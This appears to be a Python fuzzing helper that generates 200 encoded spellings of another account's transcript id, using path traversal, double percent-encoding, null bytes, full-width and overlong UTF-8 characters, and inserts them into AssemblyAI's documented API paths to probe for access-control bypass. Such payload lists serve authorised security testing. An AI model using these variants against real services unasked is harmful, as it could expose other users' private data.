"""Two hundred ways to spell somebody else's id in a path, and the documented paths it goes in."""

from __future__ import annotations

from urllib.parse import quote

# AssemblyAI's documented paths with an id (openapi.yml), and the list with it as a cursor.
PATHS = (
    "/v2/transcript/{id}",
    "/v2/transcript/{id}/sentences",
    "/v2/transcript/{id}/paragraphs",
    "/v2/transcript/{id}/srt",
    "/v2/transcript/{id}/vtt",
    "/v2/transcript/{id}/word-search?words=the",
    "/v2/transcript/{id}/redacted-audio",
    "/v2/transcript?before_id={id}",
)
METHODS = ("GET", "HEAD", "POST", "DELETE")
FULL_WIDTH = 0xFEE0

# fmt: off
ENDS = (
    "/", "//", "/.", "/..", "/./", "/../", "%2F", "%2f", "%252F", "%5C", "\\", ";", ";x",
    ";x=1", ";.json", ".json", ".xml", ".html", ".txt", ".", "..", "..;", "%00", "%00.json",
    "%0a", "%0d", "%0d%0a", "%09", "%20", "+", "%C2%A0", "%E2%80%8B", "%EF%BB%BF", "~", "!",
    "@", "$", "&", "'", "(", ")", "*", ",", "=", ":", "%3F", "%3Fx=1", "%23", "%23x", "%25",
    "%2500", "%7C", "|", "^", "`", "%22", "%3C", "%3E", "[]", "{}", "%80", "%ff", "%c0%af",
    "%e0%80%af", "%f0%9f%98%80", "0", "-x", "_", "%2e", "%2e%2e", "%252e%252e", "_0",
)
STARTS = (
    "/", "//", "///", "./", "../", "%2F", "%2f", "%252F", "%5C", "\\", ".//./", "x/", "x/../",
    "x%2F..%2F", "..;/", ";/", ";x/", ".", "%20", "%00", "%09", "%2e/", "%2e%2e/",
    "%252e%252e/", "%2e%2e%2f", "x%2f%2e%2e%2f", "transcript/../", "v2/transcript/", "~", "@",
    ":", "0", "%E2%80%8B", "%EF%BB%BF",
)
# fmt: on


def _every(id: str) -> str:
    return "".join(f"%{byte:02X}" for byte in id.encode())


def _again(spelled: str, times: int) -> str:
    for _ in range(times):
        spelled = spelled.replace("%", "%25")
    return spelled


def _wide(text: str) -> str:
    return quote("".join(chr(ord(c) + FULL_WIDTH) for c in text))


def spellings(id: str) -> list[str]:
    """Return 200 spellings of *id*, ASCII, as they stand in a request's target."""
    first = f"%{ord(id[0]):02x}{id[1:]}"
    last = f"{id[:-1]}%{ord(id[-1]):02X}"
    found = [id, id.upper(), id.title(), id.swapcase(), id.replace("-", ""), "{" + id + "}"]
    found += [first, last, _every(id), _every(id).lower(), quote(id, safe="").replace("-", "%2d")]
    found += [_again(spelled, n) for spelled in (first, last, _every(id)) for n in range(1, 9)]
    found += [_wide(id), _wide(id[0]) + id[1:], id[:-1] + _wide(id[-1]), _again(_wide(id), 1)]
    found += [id + end for end in ENDS]
    found += [start + id for start in STARTS]
    found += [f"{id}/../{id}", f"{id}/./{id}", f"x/../{id}", f"{id}/{id}", f"{id};{id}"]
    found += [f"{id}%2F..%2F{id}", f"{id},{id}", f"a?id={id}", f"a?transcript_id={id}&x=1"]
    found += [f"?id={id}", f"?{id}", f"a?x={_every(id)}", f"a?x={_again(_every(id), 7)}"]
    found += [f"a;{id}", f"a;id={id}", f"a/{id}", f"a/{_every(id)}", f"a%2F{id}", f"a/../{id}"]
    found += [f"{id}?x=1", f"{id}?", f"{id}?id=a", f"{id}&x=1", f"{id}?before_id={id}"]
    found += [f"{id[:8]}%2D{id[9:]}", f"{id[:8]}%E2%80%90{id[9:]}", f"{id[:8]}_{id[9:]}"]
    found += [f"{id[:n]}%{ord(id[n]):02x}{id[n + 1 :]}" for n in range(1, len(id) - 1)]
    unique = list(dict.fromkeys(found))
    assert len(unique) >= 200, len(unique)
    return unique[:200]
